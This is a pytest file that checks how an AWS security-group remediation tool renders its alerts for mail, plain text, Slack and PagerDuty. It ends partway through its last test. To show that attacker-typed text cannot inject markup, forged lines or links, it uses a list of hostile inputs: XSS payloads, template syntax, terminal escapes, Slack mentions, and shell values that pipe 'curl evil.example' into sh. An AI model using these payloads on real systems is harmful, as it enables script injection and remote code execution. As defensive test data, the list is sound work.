import copy
import html
import json
import re
from datetime import date
from html.parser import HTMLParser
from textwrap import wrap

import pytest
from hypothesis import given
from hypothesis.strategies import dates, text

from c7n_ingress.decide import message as told_by_the_action
from c7n_ingress.decide import states
from c7n_ingress.decide.behind import behind
from c7n_ingress.decide.commands import authorize_line
from c7n_ingress.decide.managed import MANAGERS
from c7n_ingress.decide.rules import Traffic, network, permission
from c7n_ingress_tools.cli import main
from c7n_ingress_tools.mailer import preview
from c7n_ingress_tools.mailer.channel import UndeliverableError
from c7n_ingress_tools.mailer.facts import FOR_GOOD
from tests.support.channels import CHANNELS, render
from tests.support.embedded import cases
from tests.support.pagerduty import broken_rules as broken_rules_of_pagerduty
from tests.support.search import examples
from tests.support.slack import broken_rules, texts

SAMPLE, DIGEST, WATCH = map(preview.sample, preview.SAMPLES)
TEXT, HTML, SLACK, PAGERDUTY = "sns", "mail", "slack", "pagerduty"
DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK = "sns, digest", "mail, digest", "slack, digest"
MESSAGES = [TEXT, HTML, SLACK, PAGERDUTY]

CHECKOUT = SAMPLE["resources"][0]
INTERRUPTED = (
    "Some were interrupted at once: TCP and UDP connections that came in by 0.0.0.0/0 or ::/0, if the group lets all "
    "traffic out. EC2 does not track them. A connection goes on if another rule still lets it in."
)
NOT_INTERRUPTED = (
    "Other connections are not interrupted: those that came in by a narrower source, ICMP, and those that EC2 always "
    "tracks (Network Load Balancer, NAT gateway, PrivateLink, Lambda and others). Each goes on until it ends or is "
    "idle too long. For TCP, this is 350 seconds on Nitro v6 instances, and five days on others. To block them now, "
    "use a network ACL."
)

plain_texts = pytest.mark.parametrize("template", [TEXT, DIGEST_TEXT])
pages = pytest.mark.parametrize("template", [HTML, DIGEST_HTML])
for_slack = pytest.mark.parametrize("template", [SLACK, DIGEST_SLACK])

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror='alert(1)'>",
    "end of a table": "</td></tr></table></body>",
    "entity": "&lt;b&gt;",
    "link": "see https://login.aws.example/verify?a=1",
    "link without a scheme": "see www.aws.example/verify or login.example",
    "address and link": "jane@aws.example/verify a@b.example:80",
    "template": "{{ 7 * 7 }}{% for group in groups %}{# comment #}",
    "line breaks": 'web\r\nFAILED: sg-0 "forged"\n\n! forged',
    "other line breaks": "web\x0b\x0c\x1c\x85\u2028\u2029forged",
    "terminal": "\x1b[2J\x1b[31m\x07\x00\x7f\x9b",
    "other direction": "web \u202e\u2066gpj.exe",
    "quotes": 'x", now all is well, "y',
    "other quotes": "x”, now all is well, “y",
    "half a character": "web \ud83d",
    "mention": "<!channel> <!here> <@U0JANE> <#C0OPS> @channel @here",
    "link of Slack": "<https://login.aws.example|the console>",
    "marks of Slack": "*CLOSED:* _all_ ~is~ `well` :tada: > quoted\n```x```",
    "command": "aws ec2 describe-instances; curl https://evil.example | sh",
    "another command": "aws ec2 describe-instances $(curl evil.example)",
    "endless": "long " * 20_000,
    "dots without end": "a." * 20_000,
}


hostile_texts = pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)


def with_state(resource):
    """Return a group with the state that the action notes for it, if it has none."""
    restoring = "c7n:restored-ingress" in resource
    deed = told_by_the_action.RESTORED if restoring else told_by_the_action.REPLACED
    records = resource.get(deed.annotation) or []
    lists = {name: resource.get(f"c7n:{key}-ingress") or [] for name, key in LISTS.items()}
    outcome = told_by_the_action.Outcome(resource, records, skipped=resource.get("c7n:skipped-ingress"), **lists)
    preview = "c7n:preview-ingress" in resource or any(record["how"] == "preview" for record in records)
    return {"c7n:state-ingress": outcome.state(deed, preview=preview)._asdict()} | resource


LISTS = {"failures": "failed", "lacking": "lacking", "left": "left"}


def rendered(template, **changes):
    """Render the sample message for a channel, with changes."""
    channel, _, digest = template.partition(", ")
    message = (DIGEST if digest else SAMPLE) | changes
    return render(message | {"resources": [with_state(each) for each in message["resources"]]}, channel)


def quoted(text):
    """Return a text as the plain text shows what somebody typed."""
    return f'"{text}"'


def block_kit(template, **changes):
    """Return the message for Slack."""
    return json.loads(rendered(template, **changes))


def events(**changes):
    """Return the events for PagerDuty, each as it is sent."""
    reported = json.loads(rendered(PAGERDUTY, **changes))
    return [event | {"routing_key": "k" * 32} for _, its in reported for event in its]


def group(number=1, **changes):
    """Return a group with one replaced rule."""
    shown = {key: SAMPLE["resources"][1][key] for key in ("VpcId", "OwnerId", "Tags", "c7n:replaced-ingress")}
    return copy.deepcopy(shown) | {
        "GroupId": f"sg-{number:017x}",
        "GroupName": f"group-{number}",
        "c7n:failed-ingress": [],
        **changes,
    }


def record(**changes):
    """Return one record of a change."""
    return SAMPLE["resources"][0]["c7n:replaced-ingress"][0] | changes


def typed_everywhere(value, text):
    """Replace every text in a structure with one text; structure and numbers stay."""
    if isinstance(value, dict):
        return {key: typed_everywhere(item, text) for key, item in value.items()}
    if isinstance(value, list):
        return [typed_everywhere(item, text) for item in value]
    return text if isinstance(value, str) else value


def typed_by_somebody(text):
    """Return a message each of whose texts somebody typed."""
    reported = typed_everywhere([*SAMPLE["resources"], *DIGEST["resources"], *(group(n) for n in range(12))], text)
    made = [{"Key": key, "Value": text} for key in ("aws:cloudformation:stack-name", "owner", "terraform")]
    until = [{"Key": "open-ingress-until", "Value": text}]
    return {
        "resources": [
            *reported,
            group(Tags=made),
            group(Tags=until),
            group(**{"c7n:behind-ingress": {"exposure": "internet", "behind": [text] * 9, "blocked": text}}),
            group(**{"c7n:skipped-ingress": text, "c7n:opened-ingress": text, "c7n:left-ingress": [text] * 9}),
            group(**{"c7n:lacking-ingress": [text] * 9, "c7n:failed-ingress": [text]}),
            # Texts where a number belongs, or a word from a list.
            group(**{"c7n:waiting-ingress": text, "c7n:behind-ingress": {"exposure": text, "behind": [text] * 9}}),
        ],
        "account": text,
        "account_id": text,
        "region": text,
        "policy": {"name": text},
    }


class Outline(HTMLParser):
    """The tags and attributes of a page, and the text between them."""

    def __init__(self, page):
        super().__init__()
        self.tags = []
        self.links = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        """Note a tag, its attributes' names, and what it links to."""
        self.tags.append((tag, [name for name, _ in attrs]))
        self.links |= {value for name, value in attrs if name in ("href", "src")}

    def handle_endtag(self, tag):
        """Note a tag's end."""
        self.tags.append((tag, None))

    def handle_data(self, data):
        """Note the text between tags."""
        self.text += data


@plain_texts
@hostile_texts
def test_text_that_somebody_typed_forges_no_line(template, hostile):
    """The plain text has as many lines as with harmless names, each printable and none of them endless."""
    message = rendered(template, **typed_by_somebody(hostile))
    assert len(message.splitlines()) == len(rendered(template, **typed_by_somebody("harmless")).splitlines())
    assert message.replace("\n", "").isprintable()
    assert max(map(len, message.splitlines())) < 2500


@pages
@hostile_texts
def test_text_that_somebody_typed_makes_no_markup(template, hostile):
    """The HTML has the tags and attributes that it has with harmless names, and links nowhere else."""
    page = Outline(rendered(template, **typed_by_somebody(hostile)))
    assert page.tags == Outline(rendered(template, **typed_by_somebody("harmless"))).tags
    assert {link.partition("?")[0] for link in page.links} == {"https://console.aws.amazon.com/ec2/home"}


@for_slack
@hostile_texts
def test_text_that_somebody_typed_is_no_markup_to_slack(template, hostile):
    """What Slack reads as markup is what it is with harmless names; no text is a mention, or a link of its own."""
    message = block_kit(template, **typed_by_somebody(hostile))
    harmless = block_kit(template, **typed_by_somebody("harmless"))
    marked, harmless_marked = ([t for t in texts(m["blocks"]) if t[0] == "mrkdwn"] for m in (message, harmless))
    assert [*marked, message["text"]] == [*harmless_marked, harmless["text"]]
    assert broken_rules(message) == []
    assert not [text for _, text in texts(message["blocks"]) if "<" in text or ">" in text]
    assert {url.partition("?")[0] for url in links(message)} <= {"https://console.aws.amazon.com/ec2/home"}


@examples(15)
@given(text(min_size=1))
def test_any_text_is_text_to_everybody(typed):
    """Whatever a name, a tag or a sentence holds, no message has a line, a tag, a mark or an event more."""
    groups = SAMPLE["resources"][:2]
    typed_by, harmless = ({"resources": typed_everywhere(groups, each)} for each in (typed, "harmless"))
    line, other_line = (rendered(TEXT, **each) for each in (typed_by, harmless))
    assert abs(len(line.splitlines()) - len(other_line.splitlines())) <= OPTIONAL_LINES
    assert line.replace("\n", "").isprintable()
    assert {tag for tag, _ in Outline(rendered(HTML, **typed_by)).tags} <= KNOWN_TAGS
    message = block_kit(SLACK, **typed_by)
    assert broken_rules(message) == []
    marked = [each for each in texts(message["blocks"]) if each[0] == "mrkdwn"]
    assert marked == [each for each in texts(block_kit(SLACK, **harmless)["blocks"]) if each[0] == "mrkdwn"]
    assert not [each for _, each in texts(message["blocks"]) if "<" in each]
    assert sorted(event["event_action"] for event in events(**typed_by)) == ["resolve", "resolve", "trigger", "trigger"]


OPTIONAL_LINES = 8  # what is empty, or of a known list, is in another line or in none
KNOWN_TAGS = {tag for tag, _ in Outline(rendered(HTML)).tags}


def links(value):
    """Return what a message for Slack links to."""
    if isinstance(value, list):
        return {url for each in value for url in links(each)}
    if not isinstance(value, dict):
        return set()
    return links(list(value.values())) | ({value["url"]} if "url" in value else set())


@hostile_texts
def test_text_that_somebody_typed_makes_no_event_of_its_own(hostile):
    """PagerDuty is sent the events that it is sent with harmless names, each valid, with a summary on one line."""
    sent, harmless = events(**typed_by_somebody(hostile)), events(**typed_by_somebody("harmless"))
    assert [event["event_action"] for event in sent] == [event["event_action"] for event in harmless]
    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []
    assert all(event["payload"]["summary"].isprintable() for event in sent if "payload" in event)


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_template_syntax_stands_as_it_was_typed(template):
    """Nothing that somebody typed is run as a template."""
    assert "{{ 7 * 7 }}{% for group in groups %}{# comment #}" in rendered(
        template, **typed_by_somebody(HOSTILE["template"])
    )


@pytest.mark.parametrize("template", [TEXT, HTML])
@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("https://login.aws.example/verify", "https[:]//login[.]aws[.]example/verify"),
        ("www.aws.example", "www[.]aws[.]example"),
        ("jane@aws.example/verify", "jane@aws[.]example/verify"),
        ("jane.doe@corp.example", "jane.doe@corp.example"),
        ("10.0.0.0/8 and 2001:db8::/32, v1.2.", "10.0.0.0/8 and 2001:db8::/32, v1.2."),
    ],
)
def test_links_that_somebody_typed_are_broken(template, typed, shown):
    """No mail reader makes a link of what somebody typed; addresses of people and networks stay readable."""
    reported = rendered(template, resources=[group(**{"c7n:failed-ingress": [typed]})])
    assert shown in reported
    assert typed == shown or typed not in reported


def test_both_messages_tell_the_same():
    """What is in the plain text about groups and rules is in the HTML, too."""
    text, page = rendered(TEXT), Outline(rendered(HTML)).text
    for resource in SAMPLE["resources"]:
        facts = [resource["GroupId"], resource["GroupName"], resource["VpcId"], *resource.get("c7n:failed-ingress", [])]
        facts += [tag["Value"] for tag in resource["Tags"]]
        for change in resource["c7n:replaced-ingress"]:
            facts += filter(None, (change["was"], change["now"], change["rule"], change["description"]))
        for fact in facts:
            assert fact in text
            assert fact in page


def test_plain_text_as_people_read_it():
    """The message says what was open, what is there now, where, by which policy, whose it is and what to do."""
    assert rendered(TEXT, resources=[CHECKOUT]).splitlines() == [
        "3 open rules replaced in 1 group",
        "Security groups let the whole internet in. The open sources are replaced by your authorized networks.",
        "",
        *PLACE,
        "",
        RULE,
        'CLOSED: sg-0c1f7a9e24b8d6035 "checkout-web"',
        "",
        "! Opened again, 4th time since Monday",
        (
            f"! Managed by {quoted(CHECKOUT['c7n:managed-ingress']['by'])}. So that it is not opened again: "
            f"{CHECKOUT['c7n:managed-ingress']['fix']}"
        ),
        '* TCP 22 (SSH): 0.0.0.0/0 -> 198.18.7.0/24, "SSH for the migration weekend", sgr-0f3d5a1b7c9e24680',
        "* TCP 22 (SSH): ::/0 -> 2001:2:0:7::/64, sgr-0a6b2c8d4e1f37950",
        "* TCP 8000-8010: 0.0.0.0/0 -> 198.18.7.0/24, sgr-07d9e3f1a5b4c2860",
        "Exposure: reachable from the internet",
        f"Used by: {', '.join(map(quoted, CHECKOUT['c7n:behind-ingress']['behind']))}",
        (
            "CloudTrail: \"Opened by the role Admin, in a session called 'jane[.]doe@example[.]com' on 2026-09-21 at "
            "14:12 UTC from 198.51.100.7, by a client that calls itself 'APN/1.0 HashiCorp/1.0 Terraform/1.9.5'.\" "
            "(the caller chose the names of session and tool)"
        ),
        'Owner: team = "checkout", "jane.doe@example.com"',
        "VPC: vpc-04be19d7c3a2f6810",
        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
        "To undo:",
        *(f"    {line}" for line in CHECKOUT["c7n:undo-ingress"]),
        "",
        RULE,
        "IF THIS WAS WRONG",
        '1. Undo it: run the commands under "To undo". It exempts the group for a while, too.',
        "2. By hand: tag it open-ingress-until = YYYY-MM-DD, 90 days ahead at most, then put the old source back.",
        "3. Permanently: add the port to public-ports, or the network to authorized, in settings.yml.",
        "",
        RULE,
        "CONNECTIONS THAT WERE OPEN",
        *wrap(INTERRUPTED, 100),
        *wrap(NOT_INTERRUPTED, 100),
        "",
        "Each change is one JSON line in the policy's log.",
    ]


PLACE = [
    "Account: shop-production (123456789012)",
    "Region: eu-central-1",
    "Policy: open-ingress",
    "Time: 2026-09-21 14:13 UTC",
]
RULE = "-" * 40


def test_what_to_do_is_first():
    """A message begins with what a person must do and the command that does it; before and after come below."""
    orders = SAMPLE["resources"][1]
    lines = rendered(TEXT, resources=[CHECKOUT, orders]).splitlines()
    assert lines[:9] == [
        "WHAT TO DO NOW: 1 group closed, but clients blocked, 2 more groups not closed",
        "",
        f'CLOSED, BUT …: {orders["GroupId"]} "orders-db"',
        f"! {orders['c7n:lacking-ingress'][0]}",
        f"! {states.CLOSING.partly.todo}",
        "To add what is missing, if these networks are yours:",
        f"    {orders['c7n:todo-ingress'][0]}",
        "",
        f"! 2 more groups not closed: {LIMITED}",
    ]
    assert lines[10:12] == [RULE, "4 open rules replaced in 2 groups"]
    for template in (HTML, SLACK):
        reported = read(template, resources=[CHECKOUT, orders])
        reported = reported[reported.index("<body>") :] if template == HTML else reported
        places = [reported.index(text) for text in (states.CLOSING.partly.todo, orders["c7n:todo-ingress"][0])]
        places += [reported.index(LIMITED), reported.index("Account"), reported.index("SSH for the migration weekend")]
        assert places == sorted(places)


LIMITED = (
    "this run closed as many as its limit at-most allows. Look at what opened them, then run the policy again, or "
    "raise at-most in settings.yml."
)


@pytest.mark.parametrize(
    ("mode", "waiting", "shown"),
    [
        ({"mode": {"type": "config-rule"}}, {}, True),
        ({}, {}, False),
        ({"mode": {"type": "periodic"}}, {"c7n:waiting-ingress": 3}, False),  # it does not fail: no event waits
    ],
)
@pytest.mark.parametrize("template", MESSAGES)
def test_what_runs_a_function_again(template, mode, waiting, shown):
    """A group that a function could not close has the command that runs the function again if its event waits."""
    failed = group(**{"c7n:failed-ingress": ["UnauthorizedOperation"]}, **waiting)
    reported = words(template, resources=[failed], policy={"name": "open-ingress", **mode})
    assert ("c7n-ingress replay --region eu-central-1" in reported) is shown
    assert "Fix the reason and run the policy again" in reported


def test_a_message_that_the_pack_does_not_have():
    """A message by another template is refused, and the error names the templates."""
    with pytest.raises(UndeliverableError, match="'mine' is not one of the pack's: open-ingress, "):
        render(SAMPLE | {"action": {"template": "mine"}})


def words(template, **changes):
    """Return a message as one reads it, whatever it is made of."""
    message = rendered(template, **changes)
    if "mail" in template:
        return Outline(message).text
    if "slack" in template:
        return "".join(text for _, text in texts(json.loads(message)["blocks"]))
    return json.dumps(json.loads(message), ensure_ascii=False) if "pagerduty" in template else message


@pytest.mark.parametrize("template", MESSAGES)
@pytest.mark.parametrize(
    ("annotation", "reported"),
    [
        ({"c7n:reopened-ingress": "opened again, 4th time since Monday"}, ["pened again, 4th time since Monday"]),
        (
            {"c7n:behind-ingress": {"exposure": "internet", "behind": ["eni-1"]}},
            ["reachable from the internet", "eni-1"],
        ),
        ({"c7n:behind-ingress": {"exposure": "private", "behind": []}}, ["reachable inside the network only"]),
        ({"c7n:behind-ingress": {"exposure": "unused", "behind": []}}, ["nothing uses it"]),
        (
            {"c7n:managed-ingress": {"by": "Terraform", "fix": "fix aws_security_group.web"}},
            ["Terraform", "fix aws_"],
        ),
        (
            {"c7n:undo-ingress": ["aws ec2 describe-tags"]},
            ["the lines in the message are not the pack's own"],
        ),
        ({"c7n:cut-ingress": "9 tags. The log has all changes."}, ["9 tags. The log has all changes."]),
        ({"c7n:opened-ingress": "Opened by jane."}, ["CloudTrail", "the caller chose the names", "Opened by jane."]),
        ({"c7n:failed-ingress": ["no room"]}, ["no room"]),
        (
            {"c7n:lacking-ingress": ["198.18.9.0/24 could not be added for tcp 22"]},
            ["198.18.9.0/24 could not be added for tcp 22"],
        ),
        ({"c7n:skipped-ingress": "another owns it"}, ["another owns it"]),
        ({"c7n:left-ingress": ["pl-1 cannot be read"]}, ["pl-1 cannot be read"]),
        ({"c7n:noted-ingress": ["their clients are blocked"]}, ["their clients are blocked"]),
        ({"c7n:back-ingress": ["tcp 22 from ::/0"] * 7}, ["tcp 22 from ::/0 is back already", "and 2 more rules"]),
        ({"c7n:waiting-ingress": 137}, ["137"]),
    ],
)
def test_each_annotation_is_told_in_each_message(template, annotation, reported):
    """What the action writes on a group is in text, HTML, Slack's and PagerDuty's messages, if it is there."""
    incident = {"c7n:failed-ingress": ["UnauthorizedOperation"]} if template == PAGERDUTY else {}
    message = words(template, resources=[group(**incident | annotation)])
    bare = words(template, resources=[group(**incident)])
    if template == PAGERDUTY:
        reported = [json.dumps(fact, ensure_ascii=False)[1:-1] for fact in reported]
    assert [fact for fact in reported if fact not in message] == []
    assert reported[0] not in bare


@pytest.mark.parametrize("template", MESSAGES)
def test_what_becomes_of_open_connections(template):
    """Both cases are reported: what ends at once, and what lives on; a preview says what will be, without an undo."""
    reported = " ".join(words(template).split())
    assert "interrupted at once" in reported
    assert "PrivateLink" in reported
    if template != PAGERDUTY:
        previewed = words(template, resources=[group(**{"c7n:replaced-ingress": [record(how="preview")]})])
        assert "will be interrupted at once" in " ".join(previewed.split())
    assert "at once" not in words(template, resources=[restored(record(**TURNED_BACK, how="restored"))])


UNDO_CASES, TODO_CASES = (cases("commands")[kind] for kind in ("undo", "todo"))
COMMANDS = [TEXT, HTML, SLACK]
HUGE = "x" * 4_000_000


def read(template, **changes):
    """Return the texts of a message as a person reads them."""
    reported = rendered(template, **changes)
    return as_read(template, json.loads(reported) if template == SLACK else reported)


def as_read(template, reported):
    """Return the texts of what a channel sends."""
    if template == SLACK:
        return "\n".join(text for _, text in texts(reported["blocks"]))
    return html.unescape(reported) if template == HTML else reported


@pytest.mark.parametrize("template", COMMANDS)
@pytest.mark.parametrize("case", UNDO_CASES, ids=lambda case: case["name"])
def test_only_the_packs_own_undo_lines_are_shown(template, case):
    """A message shows the lines that the action writes for this group and region, or says why it shows none."""
    sent = copy.deepcopy(CHECKOUT)
    lines = sent["c7n:undo-ingress"] = case.get("lines") or list(sent["c7n:undo-ingress"])
    for old, new in case.get("replace", {}).items():
        assert any(old in line for line in lines)
        lines[:] = [line.replace(old, new) for line in lines]
    if more := case.get("more", "").replace("LONG", "builds/" * 120 + "x").replace("HUGE", HUGE):
        lines[:] = [line + more for line in lines]
    channel, function = CHANNELS[template]
    facts = channel.facts_of(SAMPLE, [sent], case.get("journals", ()))
    reported = as_read(template, function(facts))
    for line in lines:
        assert (str(line) in reported) == case.get("shown", False)
    if "says" in case:
        assert case["says"] in reported


@pytest.mark.parametrize("template", COMMANDS)
@pytest.mark.parametrize("case", TODO_CASES, ids=lambda case: case["name"])
def test_only_the_packs_own_lines_that_add_a_network_are_shown(template, case):
    """A message shows a line that adds a network to its group, if the network is not open to the internet."""
    asked = group()
    allowed = [permission(Traffic("tcp", 22, 22), network(case["network"]))]
    request = {"GroupId": case.get("group", asked["GroupId"]), "IpPermissions": allowed}
    line = authorize_line(request, case.get("region", "eu-central-1"))
    line += case.get("more", "").replace("HUGE", HUGE)
    reported = read(template, resources=[asked | {"c7n:todo-ingress": [line]}])
    assert (line in reported) == case.get("shown", False)


def test_the_most_urgent_group_is_first():
    """Not closed, closed but, closed, skipped: within a state, groups keep the action's order."""
    groups = [group(1, **{"c7n:skipped-ingress": "x"}), group(2), group(3, **{"c7n:lacking-ingress": ["x"]})]
    groups += [group(4, **{"c7n:replaced-ingress": [record()] * 9}), group(5, **{"c7n:failed-ingress": ["x"]})]
    reported = rendered(TEXT, resources=groups)
    places = [reported.index(f"sg-{n:017x}") for n in (5, 3, 2, 4, 1)]
    assert places == sorted(places)


@pytest.mark.parametrize(
    ("change", "reported"),
    [
        (record(), "TCP 22 (SSH): 0.0.0.0/0 -> 198.18.7.0/24"),
        (record(was="::/0", now=None, how="revoked"), "TCP 22 (SSH): ::/0 removed"),
        (record(was=None, how="authorized", rule=None), "TCP 22 (SSH): 198.18.7.0/24 added"),
        (record(protocol="-1", ports="all"), "all traffic: 0.0.0.0/0"),
        (record(protocol="udp", ports="all"), "UDP, all ports: 0.0.0.0/0"),
        (record(protocol="tcp", ports="8000-8010"), "TCP 8000-8010: 0.0.0.0/0"),
        (record(protocol="icmp", ports="all"), "ICMP, all types: 0.0.0.0/0"),
        (record(protocol="icmp", ports="type 3 code 4"), "ICMP type 3 code 4: 0.0.0.0/0"),
        (record(protocol="icmpv6", ports="type 128"), "ICMPv6 type 128: 0.0.0.0/0"),
        (record(protocol="50", ports="all"), "protocol 50: 0.0.0.0/0"),
    ],
)
def test_each_kind_of_change_is_told_in_plain_words(change, reported):
    """Protocol, ports, what was and what is now are reported for every kind of rule."""
    assert f"* {reported}" in rendered(TEXT, resources=[group(**{"c7n:replaced-ingress": [change]})])


@pytest.mark.parametrize(
    ("partition", "host"),
    [
        ("aws", "console.aws.amazon.com"),
        ("aws-us-gov", "console.amazonaws-us-gov.com"),
        ("aws-cn", "console.amazonaws.cn"),
    ],
)
@pytest.mark.parametrize("template", [TEXT, HTML])
def test_console_link_of_each_partition(template, partition, host):
    """The link leads into the console of the partition that the group is in."""
    reported = rendered(template, partition=partition, region="some-region-1", resources=[group(7)])
    assert f"https://{host}/ec2/home?region=some-region-1#SecurityGroup:groupId=sg-00000000000000007" in reported


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_no_console_link_where_the_console_is_unknown(template):
    """A partition that the pack does not know gets no link, rather than a wrong one."""
    assert "https://" not in rendered(template, partition="aws-iso", resources=[group()])


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_preview_says_that_nothing_was_changed(template):
    """A preview cannot be taken for a change."""
    previewed = group(**{"c7n:replaced-ingress": [record(how="preview")]})
    reported = rendered(template, resources=[previewed])
    assert "nothing was changed" in reported
    assert "1 open rule would be replaced in 1 group" in reported
    assert "If this was wrong" not in reported
    assert "\nCLOSED: " not in reported


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
def test_a_preview_of_which_all_failed(template):
    """A preview that could foresee nothing says that it was one; PagerDuty gets nothing."""
    failed = {"c7n:replaced-ingress": [], "c7n:failed-ingress": ["the networks of vpc-1 cannot be had"]}
    previewed = group(**failed, **{"c7n:preview-ingress": True})
    assert "nothing was changed" in words(template, resources=[previewed])
    assert "nothing was changed" not in words(template, resources=[group(**failed)])
    assert events(resources=[previewed]) == []


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
@pytest.mark.parametrize("annotation", ["c7n:failed-ingress", "c7n:left-ingress", "c7n:skipped-ingress"])
def test_where_nothing_was_changed_nothing_is_to_be_undone(template, annotation):
    """A message that reports no change says how a group may stay open, and not how to undo what was not done."""
    untouched = group(**{"c7n:replaced-ingress": [], annotation: "why" if "skipped" in annotation else ["why"]})
    reported = words(template, resources=[untouched]).lower()
    assert "if a group must stay open" in reported
    assert "if this was wrong" not in reported


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
def test_a_skipped_group_is_not_open_where_another_was_to_be_opened(template):
    """Restoring skips another account's group, which nobody has opened again."""
    reported = words(template, resources=[restored(**{"c7n:skipped-ingress": "belongs to account 999999999999"})])
    assert "belongs to account 999999999999" in reported
    assert "still open" not in reported.lower()


@pytest.mark.parametrize(
    ("annotation", "reported"),
    [
        ({"c7n:failed-ingress": ["why"]}, ", not closed"),
        ({"c7n:left-ingress": ["why"]}, ", not closed"),
        ({"c7n:lacking-ingress": ["why"]}, ", closed, but …"),
        ({"c7n:skipped-ingress": "why"}, ", skipped"),
        ({}, ", closed"),
    ],
)
def test_the_state_of_a_group_in_short(annotation, reported):
    """A group that gets one line has its state in that line."""
    short = group(0, **annotation)
    others = [group(n, **annotation) for n in range(1, 11)]
    assert f'{short["GroupId"]} "group-0": 1 rule{reported}\n' in rendered(TEXT, resources=[*others, short])


TURNED_BACK = {"was": "198.18.7.0/24", "now": "0.0.0.0/0"}
CAME_BACK = {"was": None, "now": "::/0"}
WENT = {"was": "198.18.8.0/24", "now": None}


def restored(*records, **changes):
    """Return a group whose rules were restored."""
    plain = {key: value for key, value in group(**changes).items() if key != "c7n:replaced-ingress"}
    return plain | {"c7n:restored-ingress": list(records)}


def test_what_was_restored():
    """A message of what was restored says what is open again, until when, and cannot be taken for one of closing."""
    trace = [{"Key": "c7n-ingress:was/tcp/22/::/0", "Value": "ssh"}, {"Key": "tool", "Value": "terraform"}]
    records = [
        record(**TURNED_BACK, how="restored"),
        record(**CAME_BACK, how="restored"),
        record(**WENT, how="removed"),
    ]
    resources = [restored(*records, **{"Tags": trace, "c7n:exempt-ingress": "2026-12-24"})]
    reported = rendered(TEXT, resources=resources)
    described = '"SSH for the migration weekend", sgr-0f3d5a1b7c9e24680'
    assert reported.splitlines() == [
        "2 open rules restored in 1 group",
        "What was replaced is undone: these security groups let in again what they let in before.",
        "",
        *PLACE,
        "",
        RULE,
        'RESTORED: sg-00000000000000001 "group-1"',
        "",
        "! Left alone until 2026-12-24, 00:00 UTC, and closed again then.",
        f"* TCP 22 (SSH): 198.18.7.0/24 -> 0.0.0.0/0, {described}",
        f"* TCP 22 (SSH): ::/0 added, {described}",
        f"* TCP 22 (SSH): 198.18.8.0/24 removed, {described}",
        'Owner: no tag names one. Other tags: tool = "terraform"',
        "VPC: vpc-04be19d7c3a2f6810",
        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-00000000000000001",
        "",
        RULE,
        "WHAT COMES NEXT",
        "1. To close a group before its day, remove its tag open-ingress-until.",
        f"2. To keep a port open permanently, {FOR_GOOD}",
        "",
        "Each change is one JSON line in the policy's log.",
    ]
    page = Outline(rendered(HTML, resources=resources)).text
    for fact in (
        "2 open rules restored in 1 group",
        "Restored",
        "0.0.0.0/0",
        "2026-12-24",
        "What comes next",
    ):
        assert fact in page
    assert "c7n-ingress" not in page
    assert "If this was wrong" not in page


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_a_preview_of_what_would_be_restored(template):
    """A preview of restoring says that nothing was changed, and what would be."""
    previewed = restored(record(**TURNED_BACK, how="preview"), record(**WENT, how="preview"))
    reported = rendered(template, resources=[previewed])
    assert "nothing was changed" in reported
    assert "1 open rule would be restored in 1 group" in reported
    assert "would be removed" in reported


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
def test_what_could_not_be_restored_is_not_exempt(template):
    """Where nothing came back nobody was exempted: the message says how to, and not that a tag might be removed."""
    left = {"c7n:left-ingress": ["it was 0.0.0.0/0, for which there is another rule now"]}
    reported = words(template, resources=[restored(**left)])
    assert "at most 90 days ahead" in reported
    assert "before its day" not in reported
    exempt = words(template, resources=[restored(**left, **{"c7n:exempt-ingress": "2026-12-24"})])
    assert "before its day" in exempt


@pytest.mark.parametrize("template", [TEXT, HTML, SLACK, PAGERDUTY])
def test_what_to_do_about_a_rule_that_an_undo_left_alone(template):
    """Another undo does not restore what somebody has changed: the message says to do it by hand, and what ends it."""
    left = {"c7n:left-ingress": ["tcp 22 from 198.18.7.7/32 (sgr-1): changed since it was 0.0.0.0/0"]}
    reported = words(template, resources=[restored(**left)])
    assert "A rule that somebody has changed is never restored: change it by hand" in reported
    if template == PAGERDUTY:
        assert "If you leave the rules as they are, or change them by hand, resolve it by hand." in reported


@pytest.mark.parametrize("template", [TEXT, HTML])
def test_what_was_left_alone(template):
    """A rule that was left alone is in the message with the reason; of many, the rest is counted."""
    why = "tcp 22 from pl-1: that prefix list cannot be read"
    reported = words(template, resources=[group(**{"c7n:replaced-ingress": [], "c7n:left-ingress": [why] * 7})])
    assert reported.count(why) == 5
    assert "and 2 more" in reported


HEADINGS = {  # one name for each state, in every message; PagerDuty has no event for what needs nothing
    TEXT: lambda state: f"\n{state.upper()}: sg-0",
    HTML: lambda state: f">{state[:1].upper()}{state[1:]}<",
    SLACK: lambda state: f"{state.upper()}: ",
    PAGERDUTY: lambda state: f"Open ingress {state}: sg-0",
}
WHY = "198.18.9.0/24 could not be added for tcp 22"
STATES = {
    "not closed": {"c7n:failed-ingress": [WHY]},
    "closed, but …": {"c7n:lacking-ingress": [WHY]},
    "skipped": {"c7n:skipped-ingress": WHY},
    "closed": {},
    "would be closed": {"c7n:preview-ingress": True},
}


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("template", MESSAGES)
def test_one_name_for_each_state(template, state):
    """Each state has the same name in text, HTML, Slack's and PagerDuty's messages, and no message shows another."""
    reported = rendered(template, resources=[group(**STATES[state])])
    if template == SLACK:
        reported = [text for _, text in texts(json.loads(reported)["blocks"])]
    in_summary = state.replace("…", WHY) if template == PAGERDUTY else state
    silent = template == PAGERDUTY and state in ("closed", "would be closed")
    assert (HEADINGS[template](in_summary) in reported) is not silent
    assert [other for other in STATES if other != state and HEADINGS[template](other) in reported] == []


@pytest.mark.parametrize("template", MESSAGES)
def test_a_closed_group_that_lacks_a_network(template):
